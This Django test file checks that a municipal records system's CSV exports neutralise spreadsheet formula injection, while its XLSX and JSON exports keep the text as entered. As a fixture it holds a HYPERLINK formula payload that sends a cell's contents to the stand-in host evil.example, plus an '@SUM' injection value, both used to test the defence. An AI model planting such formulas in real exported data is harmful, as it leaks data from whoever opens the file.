"""Issue 23, finding 4: no CSV we write lets a spreadsheet run a resident's text as a formula.
Every writer (admin exports through Wagtail, the journal export, the public registers and the
open-data CSVs) prefixes a single quote to cells starting with =, +, -, @, tab or CR; JSON and
XLSX keep the text as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from hromada.core import exports
from hromada.correspondence import journal_csv, services
from hromada.correspondence.models import Document
from hromada.correspondence.services import RequesterData
from hromada.organizations.models import Organization, OrganizationRegisterPage

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Клікніть")'
SAFE = "'" + FORMULA


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def streamed(response: Any) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8-sig")


def test_the_rule() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert exports.neutralise(start + "1") == "'" + start + "1"
    assert exports.neutralise("Лист 5") == "Лист 5"
    assert exports.neutralise(-5) == -5  # numbers are data, not formulas
    assert cells(exports.csv_text(columns=["a"], rows=[{"a": FORMULA}]))[1] == [SAFE]
    buffer = io.StringIO()
    exports.writer(buffer).writerow([FORMULA, 3])
    assert cells(buffer.getvalue()) == [[SAFE, "3"]]


def test_admin_export_and_journal_export(admin_user: Any, tmp_path: Path) -> None:
    document = services.register_incoming(
        kind="citizen_appeal",
        subject=FORMULA,
        correspondent="@SUM(1+1)",
        requester=RequesterData(name="Петренко Іван"),
    )
    client = Client()
    client.force_login(admin_user)
    index = reverse("correspondence_journal:index")
    rows = cells(streamed(client.get(index, {"export": "csv", "q": "HYPERLINK"})))
    assert any(SAFE in row and "'@SUM(1+1)" in row for row in rows), rows
    assert not any(FORMULA in row for row in rows)
    # XLSX keeps the text as typed (stored as a string, never a formula).
    xlsx = client.get(index, {"export": "xlsx", "q": "HYPERLINK"})
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert FORMULA in values and SAFE not in values

    path = tmp_path / "journal.csv"
    journal_csv.export_file(path, Document.objects.filter(pk=document.pk))
    exported = cells(path.read_text(encoding="utf-8-sig"))
    assert SAFE in exported[1] and FORMULA not in exported[1]


def test_public_register_and_open_data(client: Client) -> None:
    organization = Organization.objects.filter(kind="ngo").order_by("pk").first()
    assert organization is not None
    Organization.objects.filter(pk=organization.pk).update(name=FORMULA)
    live = cells(streamed(client.get("/opendata/live/organizations-register.csv")))
    assert [cell for row in live for cell in row if "HYPERLINK" in cell] == [SAFE]
    data = client.get("/opendata/live/organizations-register.json").json()["data"]
    assert FORMULA in [row["name"] for row in data]

    page = OrganizationRegisterPage.objects.live().get(kind="ngo")
    register = cells(streamed(client.get(page.url + "export/csv/")))
    assert [cell for row in register for cell in row if "HYPERLINK" in cell] == [SAFE]
